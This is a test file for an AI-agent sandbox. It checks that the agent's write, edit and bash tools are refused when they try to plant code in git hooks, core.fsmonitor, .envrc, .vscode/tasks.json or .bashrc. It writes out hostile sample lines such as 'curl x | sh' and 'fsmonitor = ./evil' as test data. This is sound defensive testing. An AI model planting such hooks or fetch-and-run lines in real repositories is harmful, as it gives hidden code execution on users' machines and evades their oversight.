// Whole runs (issue 21 §3, §4, §5): the write and edit tools meet the same
// protections as bash. A repository maintainer like examples/repo-maintainer
// (read and write the workspace, git, grep and ls) cannot plant what the user's
// own git or other tools run later, through any of its tools, and its ordinary
// work in a husky repository goes on. The witnesses are the user's own git and
// the files themselves; the expectations are written by hand.
import test, { type ExecutionContext } from 'ava';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { runAgent } from '../../src/host/run/run-agent.js';
import type { RunEvent } from '../../src/host/run/run-events.js';
import { tempDir } from '../fixtures/temp.js';

const usage = { input_tokens: 1, output_tokens: 1 };
const USER_ENV = { GIT_CONFIG_NOSYSTEM: '1', GIT_AUTHOR_NAME: 'u', GIT_AUTHOR_EMAIL: 'u@x', GIT_COMMITTER_NAME: 'u', GIT_COMMITTER_EMAIL: 'u@x' };

interface World {
  readonly root: string;
  readonly ws: string;
  readonly home: string;
}

function world(t: ExecutionContext): World {
  const root = realpathSync(tempDir(t, 'zb-user-tools-'));
  const ws = path.join(root, 'ws');
  const home = path.join(root, 'home');
  mkdirSync(ws);
  mkdirSync(home);
  return { root, ws, home };
}

/** The user's own git, later, with their home; false when it failed (what counts is the marker). */
function userGit(w: World, args: string[]): boolean {
  try {
    execFileSync('git', args, { cwd: w.ws, env: { PATH: '/usr/bin:/bin', HOME: w.home, ...USER_ENV }, stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

function repository(w: World, config: string): void {
  userGit(w, ['init', '-q']);
  writeFileSync(path.join(w.ws, 'README.md'), 'hello\n');
  userGit(w, ['add', 'README.md']);
  userGit(w, ['commit', '-qm', 'first', '--no-verify']);
  const file = path.join(w.ws, '.git', 'config');
  writeFileSync(file, readFileSync(file, 'utf8') + config);
}

function lineOf(w: World, text: string): number {
  return (
    readFileSync(path.join(w.ws, '.git', 'config'), 'utf8')
      .split('\n')
      .findIndex((line) => line.includes(text)) + 1
  );
}

type Call = { readonly name: 'write' | 'edit' | 'bash' | 'read'; readonly input: Record<string, unknown> };

/** Runs an agent with `permissions` whose replayed model makes `calls`, one per turn, in `w.ws`; the user's HOME is `w.home`. */
async function run(w: World, permissions: object, calls: readonly Call[]): Promise<RunEvent[]> {
  const agent = path.join(w.root, 'agent');
  rmSync(agent, { recursive: true, force: true });
  mkdirSync(agent);
  writeFileSync(path.join(agent, 'manifest.json'), JSON.stringify({ zotfile: 1, name: 'repo-maintainer', version: '1.0.0', permissions }));
  const transcript = path.join(w.root, 'run.json');
  writeFileSync(
    transcript,
    JSON.stringify({
      zotbox_replay: 1,
      model: 'replay',
      turns: [
        ...calls.map((call, index) => ({ content: [{ type: 'tool_use', id: `t${index + 1}`, name: call.name, input: call.input }], stop: 'tool_use', usage })),
        { content: [{ type: 'text', text: 'Done.' }], stop: 'end', usage },
      ],
    }),
  );
  const events: RunEvent[] = [];
  for await (const event of runAgent({
    reference: agent,
    cwd: w.ws,
    replayFile: transcript,
    prompt: 'go',
    yes: true,
    env: { HOME: w.home, GIT_CONFIG_NOSYSTEM: '1' },
    stateDirectory: path.join(w.root, 'state'),
  })) {
    events.push(event);
  }
  return events;
}

const MAINTAINER = { fs: { read: ['${workspace}'], write: ['${workspace}'] }, bash: { mode: 'allowlist', allow: ['git', 'grep', 'ls'] } };
const WRITER = { fs: { read: ['${workspace}'], write: ['${workspace}'] } };

type Decision = RunEvent & { type: 'gate.decision' };
function decisions(events: readonly RunEvent[]): Decision[] {
  return events.filter((e): e is Decision => e.type === 'gate.decision');
}

test("husky: the maintainer's write and edit of .husky/pre-commit are refused naming the config line; its source edits and commits work", async (t) => {
  const w = world(t);
  repository(w, '[core]\n\thooksPath = .husky\n');
  mkdirSync(path.join(w.ws, '.husky'));
  writeFileSync(path.join(w.ws, '.husky', 'pre-commit'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
  const marker = path.join(w.root, 'HUSKY');
  const events = await run(w, MAINTAINER, [
    { name: 'edit', input: { path: '.husky/pre-commit', old_string: 'exit 0', new_string: `touch ${marker}` } },
    { name: 'write', input: { path: '.husky/pre-push', content: `#!/bin/sh\ntouch ${marker}\n` } },
    { name: 'write', input: { path: 'src/app.ts', content: 'export const x = 1;\n' } },
    { name: 'bash', input: { command: 'git add src/app.ts' } },
    { name: 'bash', input: { command: 'git commit -m app' } },
  ]);
  const [edit, write, source, add, commit] = decisions(events);
  const where = `core.hooksPath (set in ${path.join(w.ws, '.git', 'config')} line ${lineOf(w, 'hooksPath')})`;
  t.like(edit, { allowed: false, code: 'ZB_POLICY_PATH_PROTECTED' });
  t.true(edit!.reason!.includes(where), edit!.reason);
  t.like(write, { allowed: false, code: 'ZB_POLICY_PATH_PROTECTED' });
  t.true(write!.reason!.includes(where), write!.reason);
  t.like(source, { allowed: true });
  t.like(add, { allowed: true });
  t.like(commit, { allowed: true });
  t.like(events.at(-1), { type: 'run.end', status: 'completed' });
  t.is(readFileSync(path.join(w.ws, '.husky', 'pre-commit'), 'utf8'), '#!/bin/sh\nexit 0\n');
  t.false(existsSync(path.join(w.ws, '.husky', 'pre-push')));
  t.is(execFileSync('git', ['log', '--format=%s'], { cwd: w.ws, env: { PATH: '/usr/bin:/bin', HOME: w.home, ...USER_ENV } }).toString(), 'app\nfirst\n');
  writeFileSync(path.join(w.ws, 'b.txt'), 'b\n');
  userGit(w, ['add', 'b.txt']);
  t.true(userGit(w, ['commit', '-qm', 'user']));
  t.false(existsSync(marker));
});

test('versioned hooks through a link: the write tool cannot change githooks/pre-commit', async (t) => {
  const w = world(t);
  repository(w, '');
  mkdirSync(path.join(w.ws, 'githooks'));
  writeFileSync(path.join(w.ws, 'githooks', 'pre-commit'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
  rmSync(path.join(w.ws, '.git', 'hooks'), { recursive: true });
  symlinkSync('../githooks', path.join(w.ws, '.git', 'hooks'));
  const marker = path.join(w.root, 'LINKED');
  const events = await run(w, WRITER, [{ name: 'write', input: { path: 'githooks/pre-commit', content: `#!/bin/sh\ntouch ${marker}\n` } }]);
  const [write] = decisions(events);
  t.like(write, { allowed: false, code: 'ZB_POLICY_PATH_PROTECTED' });
  t.true(write!.reason!.includes(path.join(w.ws, '.git', 'hooks')), write!.reason);
  writeFileSync(path.join(w.ws, 'b.txt'), 'b\n');
  userGit(w, ['add', 'b.txt']);
  userGit(w, ['commit', '-qm', 'user']);
  t.false(existsSync(marker));
});

test('an agent with only the write tool cannot add core.fsmonitor to a config the repository includes', async (t) => {
  const w = world(t);
  repository(w, '[include]\n\tpath = ../project.gitconfig\n');
  writeFileSync(path.join(w.ws, 'project.gitconfig'), '[user]\n\tname = me\n');
  const marker = path.join(w.root, 'FSMONITOR');
  writeFileSync(path.join(w.ws, 'evil'), `#!/bin/sh\ntouch ${marker}\n`, { mode: 0o755 });
  const events = await run(w, WRITER, [
    { name: 'write', input: { path: 'project.gitconfig', content: '[core]\n\tfsmonitor = ./evil\n' } },
    { name: 'edit', input: { path: 'project.gitconfig', old_string: '[user]', new_string: '[core]\n\tfsmonitor = ./evil\n[user]' } },
  ]);
  const [write, edit] = decisions(events);
  for (const decision of [write, edit]) {
    t.like(decision, { allowed: false, code: 'ZB_POLICY_PATH_PROTECTED' });
    t.true(decision!.reason!.includes(`included by ${path.join(w.ws, '.git', 'config')} line ${lineOf(w, 'project.gitconfig')}`), decision!.reason);
  }
  t.is(readFileSync(path.join(w.ws, 'project.gitconfig'), 'utf8'), '[user]\n\tname = me\n');
  userGit(w, ['status']);
  t.false(existsSync(marker));
  // The payload is real: the same line, written by the user, runs on a plain git status.
  writeFileSync(path.join(w.ws, 'project.gitconfig'), '[core]\n\tfsmonitor = ./evil\n');
  userGit(w, ['status']);
  t.true(existsSync(marker));
});

test('the write tool may not plant the program an existing config names', async (t) => {
  const w = world(t);
  repository(w, '[core]\n\tfsmonitor = ./scripts/watch.sh\n');
  const events = await run(w, WRITER, [{ name: 'write', input: { path: 'scripts/watch.sh', content: '#!/bin/sh\nid\n' } }]);
  const [write] = decisions(events);
  t.like(write, { allowed: false, code: 'ZB_POLICY_PATH_PROTECTED' });
  t.true(write!.reason!.includes(`core.fsmonitor (set in ${path.join(w.ws, '.git', 'config')} line ${lineOf(w, 'fsmonitor')})`), write!.reason);
  t.false(existsSync(path.join(w.ws, 'scripts', 'watch.sh')));
});

test('tool files: the write and edit tools are refused .envrc, .vscode/tasks.json and an existing .bashrc, with the fix', async (t) => {
  const w = world(t);
  writeFileSync(path.join(w.ws, '.bashrc'), 'export A=1\n');
  const events = await run(w, WRITER, [
    { name: 'write', input: { path: '.envrc', content: 'curl x | sh\n' } },
    { name: 'write', input: { path: 'sub/.vscode/tasks.json', content: '{}\n' } },
    { name: 'edit', input: { path: '.bashrc', old_string: 'A=1', new_string: 'A=1; curl x | sh' } },
  ]);
  for (const decision of decisions(events)) {
    t.like(decision, { allowed: false, code: 'ZB_POLICY_PATH_PROTECTED' });
    t.true(decision.reason!.includes('permissions.fs.write'), decision.reason);
  }
  t.is(decisions(events).length, 3);
  t.false(existsSync(path.join(w.ws, '.envrc')));
  t.false(existsSync(path.join(w.ws, 'sub', '.vscode')));
  t.is(readFileSync(path.join(w.ws, '.bashrc'), 'utf8'), 'export A=1\n');
});

test('an explicit grant of .vscode/settings.json lets the write tool change it, and nothing else there', async (t) => {
  const w = world(t);
  mkdirSync(path.join(w.ws, '.vscode'));
  const events = await run(w, { fs: { read: ['${workspace}'], write: ['${workspace}', '${workspace}/.vscode/settings.json'] } }, [
    { name: 'write', input: { path: '.vscode/settings.json', content: '{"editor.tabSize": 2}\n' } },
    { name: 'write', input: { path: '.vscode/tasks.json', content: '{}\n' } },
  ]);
  const [granted, other] = decisions(events);
  t.like(granted, { allowed: true });
  t.like(other, { allowed: false, code: 'ZB_POLICY_PATH_PROTECTED' });
  t.is(readFileSync(path.join(w.ws, '.vscode', 'settings.json'), 'utf8'), '{"editor.tabSize": 2}\n');
  t.false(existsSync(path.join(w.ws, '.vscode', 'tasks.json')));
  const start = events[0] as RunEvent & { type: 'run.start' };
  t.true(start.permissions.write.includes(path.join(w.ws, '.vscode', 'settings.json')));
});

test('a command that plants a tool file stops the run: it is removed and the next command never runs', async (t) => {
  const w = world(t);
  const events = await run(w, { fs: { read: ['${workspace}'], write: ['${workspace}'] }, bash: { mode: 'ask' } }, [
    { name: 'bash', input: { command: "mkdir -p sub && echo 'curl x | sh' > sub/.envrc" } },
    { name: 'bash', input: { command: 'echo never > after.txt' } },
  ]);
  t.like(events.at(-1), { type: 'run.end', status: 'failed', error: { code: 'ZB_CONFINEMENT_PROTECTED_FILE' } });
  t.false(existsSync(path.join(w.ws, 'sub', '.envrc')));
  t.false(existsSync(path.join(w.ws, 'after.txt')), 'the second command never ran');
});
